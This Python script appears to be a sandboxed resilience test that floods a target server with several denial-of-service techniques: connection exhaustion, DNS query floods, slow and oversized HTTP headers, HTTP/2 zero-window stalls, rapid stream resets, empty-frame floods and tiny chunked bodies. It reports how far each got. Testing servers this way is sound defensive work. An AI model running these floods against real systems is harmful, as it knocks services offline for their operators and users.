"""Run inside a sandbox: abuse of one kind, given as first argument; prints how far it got.

Needs ``h2`` on the path for the HTTP/2 kinds.
"""

import resource
import socket
import ssl
import struct
import sys
import time

what, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)


def tls(*protocols: str) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.set_alpn_protocols(protocols)
    return context.wrap_socket(socket.create_connection((host, port), 60), server_hostname=host)


def connections() -> str:
    held = []
    for _ in range(1300):
        try:
            held.append(socket.create_connection((host, port), 60))
        except OSError:
            pass
    # Those that are too many are accepted first, and reset when it is their turn.
    until = time.monotonic() + 60
    while len(held) > 1024 and time.monotonic() < until:
        time.sleep(0.1)
        held = [sock for sock in held if is_open(sock)]
    time.sleep(0.5)
    return f"{sum(map(is_open, held))} open"


def is_open(sock: socket.socket) -> bool:
    sock.setblocking(False)
    try:
        return bool(sock.recv(1, socket.MSG_PEEK))
    except BlockingIOError:
        return True
    except OSError:
        return False


def queries() -> str:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = answered = 0
    sock.setblocking(False)
    until = time.monotonic() + 3
    while time.monotonic() < until or sent < 10_000:
        name = f"n{sent}.one.test".split(".")
        labels = b"".join(bytes([len(x)]) + x.encode() for x in name) + b"\0"
        head = struct.pack("!HHHHHH", sent & 0xFFFF, 0x100, 1, 0, 0, 0)
        try:
            sock.sendto(head + labels + struct.pack("!HH", 1, 1), ("10.0.2.3", 53))
            sent += 1
        except OSError:
            pass
        try:
            while sock.recv(512):
                answered += 1
        except OSError:
            pass
    return f"{sent} sent {answered} answered"


def slow_heads() -> str:
    socks = [tls("http/1.1") for _ in range(60)]
    for sock in socks:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n")
    cut = 0
    until = time.monotonic() + 50
    while socks and time.monotonic() < until:
        for sock in list(socks):
            try:
                sock.sendall(b"X: y\r\n")
                sock.settimeout(0.01)
                if not sock.recv(100):
                    raise OSError
            except TimeoutError:
                continue
            except OSError:
                socks.remove(sock)
                cut += 1
        time.sleep(0.5)
    return f"{cut} cut"


def huge_head() -> str:
    sock = tls("http/1.1")
    sock.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n")
    sent = 0
    try:
        while sent < 64 << 20:
            sent += sock.send(b"X: " + b"y" * 4000 + b"\r\n")
    except OSError:
        pass
    return f"{sent >> 20} MiB"


def http2():  # type: ignore[no-untyped-def]
    from h2.connection import H2Connection

    sock, connection = tls("h2"), H2Connection()
    connection.initiate_connection()
    sock.sendall(connection.data_to_send())
    names = ((":method", "GET"), (":path", "/big"), (":scheme", "https"), (":authority", f"{host}:{port}"))
    return sock, connection, list(names)


def no_window() -> str:
    """Ask for much on many streams and never give credit."""
    sock, connection, request = http2()  # type: ignore[no-untyped-call]
    for _ in range(30):
        connection.send_headers(connection.get_next_available_stream_id(), request, end_stream=True)
    sock.sendall(connection.data_to_send())
    received = 0
    sock.settimeout(3)
    try:
        while data := sock.recv(65536):
            received += len(data)
    except OSError:
        pass
    return f"{received >> 10} KiB"


def resets() -> str:
    """Open streams and cancel them as fast as the other side can read."""
    from h2.events import PingAckReceived
    from h2.exceptions import ProtocolError

    sock, connection, request = http2()  # type: ignore[no-untyped-call]
    count = 0
    try:
        while count < 20000:
            for _ in range(100):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, request, end_stream=True)
                connection.reset_stream(stream)
                sock.sendall(connection.data_to_send())
                count += 1
            # Not faster: what lies unread between the two says nothing about when they are cut off.
            connection.ping(b"are you?")
            sock.sendall(connection.data_to_send())
            answered = False
            while not answered:
                if not (data := sock.recv(65536)):
                    return f"{count} resets"
                answered = any(isinstance(event, PingAckReceived) for event in connection.receive_data(data))
    except (OSError, ProtocolError):
        pass
    return f"{count} resets"


def frames() -> str:
    """Frames that carry nothing, of the kind whose number is given, as fast as the other side reads them."""
    body = {2: bytes(4) + b"\x0f", 8: (1).to_bytes(4, "big")}.get(kind := int(sys.argv[4]), b"")
    frame = len(body).to_bytes(3, "big") + bytes([kind, 0]) + bytes([0, 0, 0, 3 * (kind == 2)]) + body
    sock = socket.create_connection((host, port), 60)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))
    ping = bytes([0, 0, 8, 6, 0, 0, 0, 0, 0]) + b"are you?"
    count = 0
    try:
        while count < 20_000:
            sock.sendall(frame * 50 + ping)
            count += 50
            # Not faster: what lies unread between the two says nothing about when they are cut off.
            seen = b""
            while b"are you?" not in seen:
                if not (data := sock.recv(65536)):
                    return f"{count} frames"
                seen += data
    except OSError:
        pass
    return f"{count} frames"


def chunks() -> str:
    """A body of one-byte chunks."""
    sock = socket.create_connection((host, port), 60)
    sock.sendall(b"POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n" % host.encode())
    for _ in range(50):
        sock.sendall(b"1\r\nx\r\n" * 1000)
    sock.sendall(b"0\r\n\r\n")
    return sock.recv(100).split(b"\r\n")[0].decode()


print(globals()[what]())
